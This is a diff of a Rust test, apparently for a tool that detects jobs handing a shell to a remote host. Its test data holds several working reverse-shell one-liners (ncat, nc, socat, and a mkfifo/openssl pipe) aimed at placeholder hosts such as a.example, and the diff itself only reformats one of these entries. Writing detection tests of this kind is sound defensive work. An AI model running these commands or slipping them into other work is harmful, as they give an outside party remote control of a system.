@@ -20,7 +20,10 @@ fn shells_that_a_job_hands_to_a_host() {
         ("sudo ncat a.example 4242 --sh-exec bash", "shell | ncat"),
         ("nc -nve /bin/bash 198.51.100.7 1", "shell | nc"),
         ("socat exec:'bash -li',pty,stderr tcp:a.example:4242", "shell | socat"),
-        ("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect a.example:443 > /tmp/s", "shell | openssl"),
+        (
+            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect a.example:443 > /tmp/s",
+            "shell | openssl",
+        ),
     ] {
         assert_eq!(script(lines), [expected], "{lines}");
     }
